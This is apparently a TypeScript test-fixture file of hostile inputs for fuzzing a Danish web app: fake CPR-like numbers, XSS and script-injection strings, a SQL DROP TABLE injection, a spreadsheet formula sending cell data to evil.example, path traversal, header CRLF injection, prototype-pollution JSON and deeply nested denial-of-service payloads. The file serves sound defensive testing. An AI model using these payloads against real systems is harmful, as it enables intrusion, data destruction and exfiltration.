/**
 * What somebody may put into any door of the site: retold classes of hostile text, numbers and bytes, made here. Each has
 * the name that a failing test prints. `secret` stands in all that could be echoed, so that an echo is found.
 */
import { bytesOf } from '../support/bytes.ts';

/** Nothing of ours says this word. */
export const secret = 'kanariefugl';

/** Numbers that no person has: a date and a serial that fail modulus 11, and dates of birth in 2030. */
export const cprLike: Readonly<Record<string, string>> = {
  'with a hyphen': '230495-0001',
  'with a space': '230495 0001',
  'ten digits': '1505304019',
  'with an en dash': '230495\u20130001',
  'with invisible characters': '2304\u200b95\u00ad-0001',
  'in full-width digits': '\uff11\uff15\uff10\uff15\uff13\uff10-\uff14\uff10\uff11\uff19',
  'in Arabic digits': '\u0661\u0665\u0660\u0665\u0663\u0660-\u0664\u0660\u0661\u0669',
  'with hyphens everywhere': '23-04-95-0001',
};

/** Texts that mean something to somebody else than the reader. None holds a CPR number. */
export const texts: Readonly<Record<string, string>> = {
  'an element with a handler': `<img src=x onerror="window.__pwned=1">${secret}`,
  'ends of elements and a script': `</textarea></title></script><script>window.__pwned=1</script>${secret}`,
  'an address that runs': `javascript:window.__pwned=1//${secret}`,
  'the signs of templates': `{{7*7}} \${7*7} {@html ${secret}}`,
  'a formula': `=HYPERLINK("https://evil.example/?"&A1;"${secret}")`,
  'a command to a database': `'); DROP TABLE sager;-- ${secret}`,
  'a way out of a folder': `../../CON:aux*?"<>| ${secret}`,
  'a turn of direction': `Sag \u202egpj.exe\u202c ${secret}`,
  'nothing that can be seen': '\u200b\u2060\ufeff',
  'half a character': `${secret} \ud83e`,
  'control characters': `${secret}\u0000\u0007\u001b[31m`,
  'many marks on each letter': `Z\u0338\u0322\u031b${'\u0337'.repeat(300)} ${secret}`,
  'a family': `\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67 ${secret}`,
  'percent signs that decode to nothing': `%E0%A4%A ${secret}`,
  'a line of a header': `${secret}\r\nSet-Cookie: a=b`,
  'a very long word': secret.repeat(1000),
};

/** Names that mean something to JavaScript. */
export const builtIns = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__'] as const;

/** Numbers as programs write them, and what only looks like one. */
export const numbers = [
  '1e309',
  '-1e309',
  'Infinity',
  'NaN',
  '0x1F',
  '-0',
  '1,3',
  '1.3',
  '1.300',
  '9007199254740993',
  '\u0661\u0662',
  '\uff11',
  '\u00bd',
  '#DIV/0!',
  'null',
  'undefined',
  'true',
] as const;

const zip = [0x50, 0x4b, 0x03, 0x04];
const gzip = [0x1f, 0x8b, 0x08];

/** Bytes that are no text in any door. */
export const noText: Readonly<Record<string, Uint8Array>> = {
  nothing: new Uint8Array(),
  'white space': bytesOf(' \r\n\t '),
  'a packed file': Uint8Array.from([...zip, ...Array.from({ length: 5000 }, (_, at) => (at * 7) % 256)]),
  'a packed stream': Uint8Array.from([...gzip, ...Array.from({ length: 5000 }, (_, at) => (at * 11) % 256)]),
  'a picture': Uint8Array.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  'NUL bytes': bytesOf('a;b\r\n1\u0000;2\r\n'),
  'a web page': bytesOf('<!doctype html><title>Log ind</title><script>window.__pwned=1</script>'),
  'a table of a web page': bytesOf('<html><table onclick="window.__pwned=1"><tr><td>1</td></tr></table>'),
  'UTF-16 cut in the middle of a character': Uint8Array.from([0xff, 0xfe, 0x7b]),
};

/** Text that is no JSON, or more than JSON should be. */
export const noJson: Readonly<Record<string, string>> = {
  'half a file': '{"format":"traedesten-backup","version":1,"content":{"cases":[',
  'a comma too many': '{"version":1,}',
  'two documents': '{"version":1}{"version":1}',
  'a remark': '{"version":1 /* her */}',
  NaN: '{"version":NaN}',
  'a number beyond all numbers': '{"version":1e309}',
  'the same key twice': '{"version":1,"version":2}',
  'a key of prototypes': '{"version":1,"__proto__":{"polluted":1}}',
  'a key of prototypes in disguise': '{"version":1,"\\u005f_proto__":{"polluted":1}}',
  'the constructor of all objects': '{"version":1,"constructor":{"prototype":{"polluted":1}}}',
  'two hundred thousand layers of lists': `{"version":1,"x":${'['.repeat(200_000)}${']'.repeat(200_000)}}`,
  'layers of objects': '{"a":'.repeat(100) + '1' + '}'.repeat(100),
  'a million empty texts': `[${'"",'.repeat(1_000_000)}""]`,
  'single quotes': "{'version':1}",
};
